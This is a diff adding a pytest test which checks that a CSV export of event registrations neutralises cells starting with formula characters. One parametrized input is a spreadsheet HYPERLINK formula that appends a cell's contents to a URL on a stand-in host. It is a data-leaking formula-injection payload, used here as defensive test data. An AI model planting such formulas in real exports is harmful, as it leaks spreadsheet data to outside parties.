@@ -200,6 +200,17 @@ def test_an_editor_can_export_the_registrations_as_csv(client, event):
     ]
 
 
+@pytest.mark.parametrize("typed", ['=HYPERLINK("https://example.com/?"&B2,"Klicka")', "+46 8 123", "-1+1", "@SUM(1)"])
+def test_exported_csv_cells_never_start_a_formula(client, event, typed):
+    EventRegistrationFactory(event=event, name=typed, email="maja@example.se", organisation=typed)
+    client.force_login(UserFactory(is_superuser=True, is_staff=True))
+
+    response = client.get(f"/admin/anmalningar/?event={event.pk}&export=csv")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert rows[1][1] == rows[1][3] == "'" + typed
+
+
 def test_an_editor_can_search_the_registrations_and_export_xlsx(client, event):
     EventRegistrationFactory(event=event, name="Maja Lind", email="maja@example.se")
     EventRegistrationFactory(event=event, name="Olle Berg", email="olle@example.se")
